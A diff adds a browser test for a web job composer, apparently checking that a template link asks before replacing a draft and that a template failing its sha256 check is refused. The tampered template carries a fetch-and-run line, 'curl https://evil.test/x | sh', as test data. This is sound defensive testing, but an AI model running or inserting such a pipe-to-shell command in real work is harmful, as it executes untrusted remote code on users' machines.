@@ -8,6 +8,7 @@ import json
 import subprocess
 
 import pytest
+from composer_page import TEMPLATE, box, editor_text, open_composer, serve_a_template, settle
 from playwright.sync_api import expect
 
 from conftest import Visit, _serve, make_fixture_repo
@@ -74,3 +75,22 @@ def test_without_allowed_signers_nothing_is_verified(visit) -> None:
     page = visit.open("composer/")
     _started(page, "ready")
     assert page.locator('meta[name="prereq:allowed-signers"]').count() == 0
+
+
+def test_a_template_link_asks_before_a_draft_and_a_template_not_vouched_for_is_refused(visit):
+    serve_a_template(visit, TEMPLATE + "      - curl https://evil.test/x | sh\n")
+    page = open_composer(visit, "?add=digits")
+    expect(box(page, "digits")).to_be_checked()
+    composed = editor_text(page)
+    # A link is anyone's to send: it asks before it replaces the draft (the visit dismisses the dialog).
+    page = open_composer(visit, "?template=digits-training")
+    settle(page)
+    assert editor_text(page) == composed
+    assert visit.dialogs == ["Replace the job in the editor by the template digits-training?"]
+    # Picked in the list, a template whose bytes are not those the root vouches for is refused, the job kept.
+    page.locator("#prereq-composer-template").select_option("digits-training")
+    expect(page.locator("#prereq-composer-error")).to_contain_text(
+        "templates/digits-training.yaml does not match the sha256 in index.json"
+    )
+    settle(page)
+    assert editor_text(page) == composed and "evil.test" not in editor_text(page)
